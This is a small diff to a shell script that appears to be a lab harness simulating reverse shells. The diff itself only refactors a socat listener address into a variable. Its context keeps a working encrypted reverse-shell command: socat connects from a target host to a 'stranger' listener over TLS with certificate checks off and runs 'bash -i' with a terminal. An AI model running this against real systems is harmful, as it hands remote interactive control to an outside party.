@@ -15,7 +15,8 @@ reverse_shell() {
 # tls_shell HOST PORT VERSION: the same inside TLS, with a terminal of its own; the stranger's certificate is self-signed.
 tls_shell() {
     certificate stranger localhost
-    typed "${looks[@]}" exit | on stranger socat "OPENSSL-LISTEN:$2,reuseaddr,cert=$lab/stranger/tls.pem,verify=0,openssl-max-proto-version=$3" - >/dev/null &
+    local listen=OPENSSL-LISTEN:$2,reuseaddr,cert=$lab/stranger/tls.pem,verify=0,openssl-max-proto-version=$3
+    typed "${looks[@]}" exit | on stranger socat "$listen" - >/dev/null &
     local listener=$!
     wait_for stranger tcp "$2"
     on "$1" socat "OPENSSL:${address[stranger]}:$2,verify=0" "EXEC:bash -i,pty,stderr,setsid,sigint,sane" || true
